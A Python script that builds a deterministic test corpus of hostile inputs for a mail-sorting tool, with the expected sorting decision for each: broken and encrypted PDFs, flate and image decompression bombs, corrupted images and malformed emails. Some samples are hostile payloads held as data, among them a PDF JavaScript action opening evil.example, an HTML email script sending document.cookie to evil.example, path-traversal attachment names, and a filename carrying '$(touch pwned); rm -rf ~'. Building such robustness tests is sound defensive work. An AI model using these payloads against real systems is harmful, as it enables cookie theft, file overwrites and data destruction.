"""Build the hostile corpus: inputs a mailroom meets when scanners, mailers and people misbehave.

    python tests/resources/hostile/make.py OUT_DIR [--small]

Deterministic (fixed seeds, no clock): the same bytes on every run. Everything is built into
OUT_DIR at test time; `--small` leaves out the three inputs of 50-100 MB. Each kind is one
function below; `KINDS` lists them with the decisions mailsort may reach on it.
"""

from __future__ import annotations

import base64
import io
import os
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
)
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

QUARANTINED = {"quarantined"}
ANY = {"filed", "review", "quarantined", "duplicate"}
READ = {"filed", "review"}

LETTER = ["Stadtwerke Nordhafen GmbH", "Hafenstraße 4, 20457 Hamburg", "",
          "Müller Bau GmbH", "Postfach 1042", "Friedrichstraße 12", "10117 Berlin", "",
          "Rechnung Nr. R-2026-0042 vom 20.11.2026", "",
          "Sehr geehrte Damen und Herren,",
          "für die Lieferung von Strom im Oktober berechnen wir Ihnen 1.234,56 EUR.",
          "Bitte überweisen Sie den Betrag bis zum 04.12.2026.",
          "Mit freundlichen Grüßen", "Stadtwerke Nordhafen"]


# -- building blocks ---------------------------------------------------------------------------

def letter_pdf(lines: list[str] = LETTER, pages: int = 1, size=A4) -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=size, invariant=1)
    for _ in range(pages):
        y = size[1] - 72
        for line in lines:
            c.drawString(72, y, line)
            y -= 16
        c.showPage()
    c.save()
    return buf.getvalue()


def blank_pdf(pages: int, size=A4) -> bytes:
    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=size, invariant=1)
    for _ in range(pages):
        c.showPage()
    c.save()
    return buf.getvalue()


def _font(size: int):
    for path in ("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf",
                 "/usr/share/fonts/truetype/liberation/LiberationSans-Regular.ttf"):
        if os.path.exists(path):
            return ImageFont.truetype(path, size)
    return ImageFont.load_default()


def letter_image(size=(1240, 1754), mode="L") -> Image.Image:
    """An A4 page at 150 dpi with the letter's text, as a scanner would give it."""
    img = Image.new(mode, size, 255)
    draw = ImageDraw.Draw(img)
    font = _font(max(10, size[0] // 60))
    y = size[1] // 14
    for line in LETTER:
        draw.text((size[0] // 10, y), line, fill=0, font=font)
        y += int(font.size * 1.6)
    return img


def png_bytes(img: Image.Image, dpi: int = 150) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format="PNG", dpi=(dpi, dpi))
    return buf.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def blank_png(width: int, height: int, dpi: int | None = None) -> bytes:
    """A white bilevel PNG written row by row: a bomb costs kilobytes here, not its pixels."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)          # filter byte + white bits
    comp = zlib.compressobj(9)
    idat = b"".join(comp.compress(row) for _ in range(height)) + comp.flush()
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    phys = _chunk(b"pHYs", struct.pack(">IIB", round(dpi / 0.0254), round(dpi / 0.0254), 1)) \
        if dpi else b""
    return b"\x89PNG\r\n\x1a\n" + head + phys + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def rng_bytes(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _writer_of(data: bytes) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(data)))


def _written(writer: PdfWriter) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def email_bytes(msg) -> bytes:
    return msg.as_bytes()


def _mail(subject: str = "Rechnung R-2026-0042", body: str = "\n".join(LETTER)) -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "Stadtwerke Nordhafen <rechnung@stadtwerke-nordhafen.example>"
    msg["To"] = "mueller-bau@post.buero-mitte.de"
    msg["Subject"] = subject
    msg["Date"] = "Fri, 20 Nov 2026 09:15:00 +0100"
    msg["Message-ID"] = f"<{zlib.crc32(subject.encode())}@hostile.example>"
    msg.set_content(body)
    return msg


def _raw_mail(headers: str, body: bytes) -> bytes:
    return headers.replace("\n", "\r\n").encode("ascii") + b"\r\n" + body


# -- PDFs ----------------------------------------------------------------------------------------

def pdf_empty() -> bytes:
    return b""


def pdf_truncated() -> bytes:
    data = letter_pdf()
    return data[: len(data) // 2]


def pdf_text_as_pdf() -> bytes:
    return ("\n".join(LETTER) + "\n").encode("utf-8")


def pdf_zip_as_pdf() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        zinfo = zipfile.ZipInfo("rechnung.pdf", date_time=(2026, 11, 20, 9, 0, 0))
        zinfo.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(zinfo, letter_pdf())
    return buf.getvalue()


def pdf_zip_polyglot() -> bytes:
    """A readable PDF that is also a ZIP archive (the archive appended after %%EOF)."""
    return letter_pdf() + pdf_zip_as_pdf()


def pdf_encrypted_user() -> bytes:
    w = _writer_of(letter_pdf())
    w.encrypt(user_password="geheim", owner_password="owner", algorithm="AES-128")
    return _written(w)


def pdf_encrypted_owner() -> bytes:
    w = _writer_of(letter_pdf())
    w.encrypt(user_password="", owner_password="owner-only", algorithm="AES-128")
    return _written(w)


def pdf_2000_pages() -> bytes:
    return blank_pdf(2000)


def pdf_huge_page() -> bytes:
    return blank_pdf(1, size=(20000, 20000))


def pdf_zero_pages() -> bytes:
    return _assemble_objects([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"])


def pdf_broken_xref() -> bytes:
    """Every offset in the cross-reference table is wrong: readers must rebuild it."""
    data = letter_pdf()
    start = data.rindex(b"\nxref") + 1
    end = data.index(b"trailer", start)
    table = data[start:end].split(b"\n")
    table = [ln[:-8] if len(ln) == 18 and ln[10:11] == b" " else ln for ln in table]
    table = [(b"%010d" % (int(ln[:10]) + 7) + ln[10:]) if len(ln) == 18 and ln[:10].isdigit()
             and ln[17:18] == b"n" else ln for ln in table]
    return data[:start] + b"\n".join(table) + data[end:]


def pdf_xref_missing() -> bytes:
    """The xref table is gone and startxref points nowhere; the trailer survived."""
    data = letter_pdf()
    start = data.rindex(b"\nxref") + 1
    trailer = data[data.index(b"trailer", start):data.index(b"startxref", start)]
    return data[:start] + trailer + b"startxref\n999999\n%%EOF\n"


def pdf_pagetree_loop() -> bytes:
    """The page tree's Kids include the Pages node itself next to the real page."""
    data = letter_pdf()
    w = _writer_of(data)
    pages = w._root_object["/Pages"]
    kids = pages["/Kids"]
    kids.append(w._root_object.raw_get("/Pages"))
    return _written(w)


def pdf_deep_nesting() -> bytes:
    """The page sits under 300 nested /Pages nodes and carries a 3000-deep array."""
    objs: list[bytes] = []
    depth = 300
    # 1 catalog, 2..depth+1 Pages nodes, depth+2 the page, depth+3 content, depth+4 font
    page_no, content_no, font_no = depth + 2, depth + 3, depth + 4
    objs.append(b"<</Type/Catalog/Pages 2 0 R>>")
    for i in range(depth):
        me = 2 + i
        child = me + 1 if i < depth - 1 else page_no
        parent = b"" if i == 0 else b"/Parent %d 0 R" % (me - 1)
        objs.append(b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (child, parent))
    nested = b"[" * 3000 + b"]" * 3000
    objs.append(b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R"
                b"/Resources<</Font<</F1 %d 0 R>>>>/X %s>>" % (depth + 1, content_no, font_no, nested))
    text = b"BT /F1 11 Tf 72 770 Td 14 TL " + b" ".join(
        b"(" + ln.encode("latin-1", "replace") + b") '" for ln in LETTER) + b" ET"
    objs.append(b"<</Length %d>>stream\n" % len(text) + text + b"\nendstream")
    objs.append(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>")
    return _assemble_objects(objs)


def _assemble_objects(objs: list[bytes], root: int = 1) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for n, body in enumerate(objs, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1))
    for off in offsets:
        out.write(b"%010d 00000 n \n" % off)
    out.write(b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objs) + 1, root, xref))
    return out.getvalue()


def _bomb_stream(n_bytes: int, fill: bytes = b" ") -> bytes:
    comp = zlib.compressobj(9)
    chunk = fill * (1 << 20)
    return b"".join(comp.compress(chunk) for _ in range(n_bytes >> 20)) + comp.flush()


def pdf_flate_bomb() -> bytes:
    """A 0.5 MB page whose content stream inflates to 512 MB (spaces, then some text)."""
    bomb = _bomb_stream(512 << 20)
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return _assemble_objects([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n" % len(bomb) + bomb + b"\nendstream",
        font,
    ])


def pdf_image_bomb() -> bytes:
    """A page-sized image XObject declared 60000 x 60000 bilevel pixels (450 MB inflated)."""
    side = 60000
    row = b"\xff" * (side // 8)
    comp = zlib.compressobj(9)
    data = b"".join(comp.compress(row) for _ in range(side)) + comp.flush()
    content = b"q 595 0 0 842 0 0 cm /Im1 Do Q"
    return _assemble_objects([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</XObject<</Im1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n" % len(content) + content + b"\nendstream",
        b"<</Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray"
        b"/BitsPerComponent 1/Filter/FlateDecode/Length %d>>stream\n" % (side, side, len(data))
        + data + b"\nendstream",
    ])


def pdf_emoji_surrogates() -> bytes:
    """A text layer whose ToUnicode map gives emoji, lone surrogates and NUL for some glyphs."""
    text = b"BT /F1 11 Tf 72 770 Td 14 TL " + b" ".join(
        b"(" + ln.encode("latin-1", "replace") + b") '" for ln in LETTER) + b" (ABC) ' ET"
    cmap = (b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
            b"/CMapName /Hostile def 1 begincodespacerange <00> <FF> endcodespacerange\n"
            b"3 beginbfchar\n<41> <D83DDE00>\n<42> <D800>\n<43> <0000>\nendbfchar\n"
            b"1 beginbfrange\n<44> <FF> <0044>\nendbfrange\n"
            b"1 beginbfrange\n<20> <3F> <0020>\nendbfrange\n"
            b"endcmap CMapName currentdict /CMap defineresource pop end end")
    return _assemble_objects([
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F1 5 0 R>>>>>>",
        b"<</Length %d>>stream\n" % len(text) + text + b"\nendstream",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding"
        b"/ToUnicode 6 0 R>>",
        b"<</Length %d>>stream\n" % len(cmap) + cmap + b"\nendstream",
    ])


def pdf_javascript() -> bytes:
    w = _writer_of(letter_pdf())
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): DecodedStreamObject()})
    action[NameObject("/JS")].set_data(b"app.launchURL('http://evil.example/', true);")
    w._root_object[NameObject("/OpenAction")] = w._add_object(action)
    return _written(w)


def pdf_embedded_100mb() -> bytes:
    w = _writer_of(letter_pdf())
    w.add_attachment("payload.bin", rng_bytes(100 << 20, 8))
    return _written(w)


# -- images ---------------------------------------------------------------------------------------

def png_bomb_over() -> bytes:
    return blank_png(20000, 20000)                         # 400 MP, over the 150 MP cap


def png_bomb_under() -> bytes:
    return blank_png(12000, 12000)                         # 144 MP, just under the cap


def png_high_dpi() -> bytes:
    """A real letter scanned at 1200 dpi (far above the OCR dpi)."""
    return png_bytes(letter_image((9920, 14032), mode="1"), dpi=1200)


def tiff_500_frames() -> bytes:
    frames = [Image.new("1", (64, 64), 1) for _ in range(500)]
    buf = io.BytesIO()
    frames[0].save(buf, format="TIFF", save_all=True, append_images=frames[1:],
                   compression="group4")
    return buf.getvalue()


def tiff_truncated() -> bytes:
    buf = io.BytesIO()
    letter_image().save(buf, format="TIFF", compression="tiff_lzw", dpi=(150, 150))
    data = buf.getvalue()
    return data[: len(data) * 2 // 3]


def jpeg_corrupt() -> bytes:
    buf = io.BytesIO()
    letter_image().save(buf, format="JPEG", quality=80, dpi=(150, 150))
    data = bytearray(buf.getvalue())
    r = random.Random(3)
    for i in range(len(data) // 3, len(data) - 10, 97):   # scramble the entropy-coded data
        data[i] = r.randrange(256)
    return bytes(data)


def jpeg_truncated() -> bytes:
    buf = io.BytesIO()
    letter_image().save(buf, format="JPEG", quality=80, dpi=(150, 150))
    return buf.getvalue()[:5000]


def png_one_pixel() -> bytes:
    return png_bytes(Image.new("L", (1, 1), 255))


def svg_as_png() -> bytes:
    return (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" '
            b'height="100"><script>alert(1)</script><text x="0" y="50">Rechnung</text></svg>')


def png_bad_crc() -> bytes:
    data = bytearray(png_bytes(letter_image()))
    data[-20] ^= 0xFF                                      # inside the last IDAT's checksum
    return bytes(data)


# -- emails ---------------------------------------------------------------------------------------

def msg_as_eml() -> bytes:
    # An Outlook .msg is an OLE compound file: its magic, then sectors of binary.
    return bytes.fromhex("d0cf11e0a1b11ae1") + rng_bytes(4096, 5)


def eml_empty() -> bytes:
    return b""


def eml_blank() -> bytes:
    return b"\r\n\r\n   \r\n"


def eml_nested_200() -> bytes:
    inner: bytes = _mail("Innerste Rechnung").as_bytes()
    for n in range(200):
        inner = _raw_mail(f"From: hop{n}@relay.example\nTo: next@relay.example\n"
                          f"Subject: Fwd {n}\nMIME-Version: 1.0\n"
                          "Content-Type: message/rfc822\n", inner)
    return inner


def eml_hostile_names() -> bytes:
    msg = MIMEMultipart()
    msg["From"] = "x@evil.example"
    msg["To"] = "mueller-bau@post.buero-mitte.de"
    msg["Subject"] = "Anhänge"
    msg["Date"] = "Fri, 20 Nov 2026 09:15:00 +0100"
    msg.attach(MIMEText("Siehe Anhang.", "plain", "utf-8"))
    for name in ("../../../../tmp/mailsort-escape.pdf", "/etc/cron.d/mailsort.pdf",
                 "..\\..\\windows\\x.pdf", "nul\x00byte.pdf", ".."):
        part = MIMEApplication(letter_pdf(), "pdf")
        part.add_header("Content-Disposition", "attachment", filename=name)
        msg.attach(part)
    return msg.as_bytes()


def eml_attachment_50mb() -> bytes:
    w = _writer_of(letter_pdf())
    w.add_attachment("ballast.bin", rng_bytes(50 << 20, 50))
    msg = _mail("Große Rechnung")
    msg.add_attachment(_written(w), maintype="application", subtype="pdf",
                       filename="rechnung-gross.pdf")
    return msg.as_bytes()


def eml_broken_base64() -> bytes:
    pdf = base64.encodebytes(letter_pdf()).decode()
    pdf = pdf[:200] + "!!!@@@###***" + pdf[200:len(pdf) // 2]          # junk, then cut short
    return _raw_mail(
        "From: a@b.example\nTo: mueller-bau@post.buero-mitte.de\nSubject: kaputt\n"
        "Date: Fri, 20 Nov 2026 09:15:00 +0100\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="XX"\n',
        ("--XX\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
         "U2llaGUg=QW5oYW5n!!\n--XX\nContent-Type: application/pdf; name=r.pdf\n"
         "Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=r.pdf\n\n"
         + pdf + "\n--XX--\n").replace("\n", "\r\n").encode("ascii"))


def eml_bad_charsets() -> bytes:
    body = "\n".join(LETTER).encode("cp1252")
    return _raw_mail(
        "From: =?x-nonsense?q?M=FCller?= <a@b.example>\nTo: mueller-bau@post.buero-mitte.de\n"
        "Subject: =?utf-8?q?Rechnung_=FC=FC?=\nDate: Fri, 20 Nov 2026 09:15:00 +0100\n"
        'MIME-Version: 1.0\nContent-Type: text/plain; charset="utf-7"\n'
        "Content-Transfer-Encoding: 8bit\n", body)


def eml_encoded_word_surrogates() -> bytes:
    # UTF-8 encoded surrogates (CESU), a UTF-16 lone surrogate and raw 8-bit header bytes.
    cesu = base64.b64encode(b"Rechnung \xed\xa0\x80\xed\xb8\x80").decode()
    utf16 = base64.b64encode("Mahnung".encode("utf-16-be") + b"\xd8\x00").decode()
    head = (f"From: =?utf-16?b?{utf16}?= <a@b.example>\nTo: mueller-bau@post.buero-mitte.de\n"
            f"Subject: =?utf-8?b?{cesu}?= \U0001F4B8\nDate: Fri, 20 Nov 2026 09:15:00 +0100\n"
            "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n"
            "Content-Transfer-Encoding: 8bit\n")
    return (head.replace("\n", "\r\n").encode("utf-8", "surrogatepass") + b"\r\n"
            + "\n".join(LETTER).encode("utf-8") + b"\n\xed\xa0\x80 \xf0\x9f\x92\xb8\n")


def eml_header_1mb() -> bytes:
    return _raw_mail("From: a@b.example\nTo: mueller-bau@post.buero-mitte.de\n"
                     "Subject: " + "Rechnung " * (1 << 17) + "\nDate: Fri, 20 Nov 2026 09:15:00 +0100\n"
                     "X-Long: " + "A" * (1 << 20) + "\n", "\n".join(LETTER).encode("utf-8"))


def eml_html_script() -> bytes:
    html = ("<html><head><script>document.location='http://evil.example/'+document.cookie"
            "</script><style>p{}</style></head><body onload=\"fetch('http://evil.example')\">"
            + "".join(f"<p>{ln}</p>" for ln in LETTER) +
            "<img src=x onerror=alert(1)><iframe src='javascript:alert(1)'></iframe></body></html>")
    msg = _mail("HTML")
    msg.set_content(html, subtype="html")
    return msg.as_bytes()


def eml_dsn_bounce() -> bytes:
    original = _mail("Ihre Rechnung").as_bytes()
    return _raw_mail(
        "From: MAILER-DAEMON@mx.example\nTo: mueller-bau@post.buero-mitte.de\n"
        "Subject: Undelivered Mail Returned to Sender\nDate: Fri, 20 Nov 2026 09:15:00 +0100\n"
        'MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; '
        'boundary="B"\n',
        b"--B\r\nContent-Type: text/plain\r\n\r\nThis is the mail system. Your message could not "
        b"be delivered.\r\n--B\r\nContent-Type: message/delivery-status\r\n\r\n"
        b"Reporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; nobody@example.org\r\n"
        b"Action: failed\r\nStatus: 5.1.1\r\n--B\r\nContent-Type: message/rfc822\r\n\r\n"
        + original + b"\r\n--B--\r\n")


def eml_60_attachments() -> bytes:
    """60 scanned pages as attachments: over max_pages, so no page may be OCR'd at all."""
    page = png_bytes(letter_image((620, 877), mode="1"), dpi=75)
    msg = _mail("60 Seiten")
    for n in range(60):
        msg.add_attachment(page + struct.pack(">I", n), maintype="image", subtype="png",
                           filename=f"seite-{n + 1:02d}.png")
    return msg.as_bytes()


def eml_bomb_attachment() -> bytes:
    """The letter as one attachment, a flate-bomb PDF as another."""
    msg = _mail("Rechnung und Anlage")
    msg.add_attachment(letter_pdf(), maintype="application", subtype="pdf", filename="rechnung.pdf")
    msg.add_attachment(pdf_flate_bomb(), maintype="application", subtype="pdf", filename="anlage.pdf")
    return msg.as_bytes()


def eml_no_body() -> bytes:
    return _raw_mail("From: a@b.example\nTo: mueller-bau@post.buero-mitte.de\nSubject: leer\n"
                     "Date: Fri, 20 Nov 2026 09:15:00 +0100\n", b"")


# -- the list --------------------------------------------------------------------------------------
# (file name, builder, decisions that are acceptable, big: left out with --small)

Kind = tuple[str, Callable[[], bytes], set[str], bool]
KINDS: list[Kind] = [
    ("empty.pdf", pdf_empty, QUARANTINED, False),
    ("truncated.pdf", pdf_truncated, QUARANTINED, False),
    ("text-as.pdf", pdf_text_as_pdf, QUARANTINED, False),
    ("zip-as.pdf", pdf_zip_as_pdf, QUARANTINED, False),
    ("pdf-zip-polyglot.pdf", pdf_zip_polyglot, READ, False),
    ("encrypted-user.pdf", pdf_encrypted_user, QUARANTINED, False),
    ("encrypted-owner.pdf", pdf_encrypted_owner, READ, False),
    ("pages-2000.pdf", pdf_2000_pages, QUARANTINED, False),
    ("page-20000pt.pdf", pdf_huge_page, QUARANTINED, False),
    ("zero-pages.pdf", pdf_zero_pages, QUARANTINED, False),
    ("xref-broken.pdf", pdf_broken_xref, READ, False),
    ("xref-missing.pdf", pdf_xref_missing, READ, False),
    ("pagetree-loop.pdf", pdf_pagetree_loop, READ, False),
    ("deep-nesting.pdf", pdf_deep_nesting, READ, False),
    ("flate-bomb.pdf", pdf_flate_bomb, QUARANTINED, False),
    ("image-bomb.pdf", pdf_image_bomb, {"review", "quarantined"}, False),
    ("emoji-surrogates.pdf", pdf_emoji_surrogates, READ, False),
    ("javascript.pdf", pdf_javascript, READ, False),
    ("embedded-100mb.pdf", pdf_embedded_100mb, READ, True),
    ("png-bomb-over.png", png_bomb_over, QUARANTINED, False),
    ("png-bomb-under.png", png_bomb_under, ANY, False),
    ("png-1200dpi.png", png_high_dpi, READ, False),
    ("tiff-500-frames.tif", tiff_500_frames, QUARANTINED, False),
    ("tiff-truncated.tif", tiff_truncated, QUARANTINED, False),
    ("jpeg-corrupt.jpg", jpeg_corrupt, ANY, False),
    ("jpeg-truncated.jpg", jpeg_truncated, QUARANTINED, False),
    ("png-1x1.png", png_one_pixel, ANY, False),
    ("svg-as.png", svg_as_png, QUARANTINED, False),
    ("png-bad-crc.png", png_bad_crc, QUARANTINED, False),
    ("msg-as.eml", msg_as_eml, QUARANTINED, False),
    ("empty.eml", eml_empty, QUARANTINED, False),
    ("blank.eml", eml_blank, QUARANTINED, False),
    ("nested-200.eml", eml_nested_200, ANY, False),
    ("hostile-names.eml", eml_hostile_names, READ, False),
    ("attachment-50mb.eml", eml_attachment_50mb, READ, True),
    ("broken-base64.eml", eml_broken_base64, ANY, False),
    ("bad-charsets.eml", eml_bad_charsets, READ, False),
    ("encoded-word-surrogates.eml", eml_encoded_word_surrogates, READ, False),
    ("header-1mb.eml", eml_header_1mb, ANY, False),
    ("html-script.eml", eml_html_script, READ, False),
    ("dsn-bounce.eml", eml_dsn_bounce, ANY, False),
    ("attachments-60.eml", eml_60_attachments, QUARANTINED, False),
    ("no-body.eml", eml_no_body, QUARANTINED, False),
    ("bomb-attachment.eml", eml_bomb_attachment, READ, False),
]

# Names the file system allows and shells, terminals and logs do not like; a good letter inside.
ODD_NAMES: list[bytes] = [
    b"line\nbreak.pdf",
    b"$(touch pwned); rm -rf ~ `id` | & ; > <.pdf",
    b"x" * 246 + b".pdf",                                    # 250 bytes
    b"rechnung-\xff\xfe-latin1-\xe4.pdf",                    # not UTF-8
    b"-rf --help.pdf",
]


def build(out: Path, small: bool = False) -> dict[str, set[str]]:
    """Write every kind into `out`; returns {file name: acceptable decisions}."""
    out.mkdir(parents=True, exist_ok=True)
    expect: dict[str, set[str]] = {}
    for name, fn, ok, big in KINDS:
        if big and small:
            continue
        (out / name).write_bytes(fn())
        expect[name] = ok
    good = letter_pdf(LETTER + ["Kundennummer 1042"])
    for n, raw in enumerate(ODD_NAMES):
        with open(os.path.join(os.fsencode(out), raw), "wb") as fh:
            fh.write(good + b"%% copy %d\n" % n)                # distinct content, no duplicates
        expect[os.fsdecode(raw)] = READ
    # Not files a scanner writes: a symlink out of the inbox and a named pipe.
    os.symlink("/etc/hostname", out / "symlink-out.pdf")
    expect["symlink-out.pdf"] = QUARANTINED
    os.mkfifo(out / "fifo.pdf")
    expect["fifo.pdf"] = QUARANTINED
    return expect


if __name__ == "__main__":
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    if not args:
        sys.exit(__doc__)
    kinds = build(Path(args[0]), small="--small" in sys.argv)
    print(f"{len(kinds)} inputs in {args[0]}")
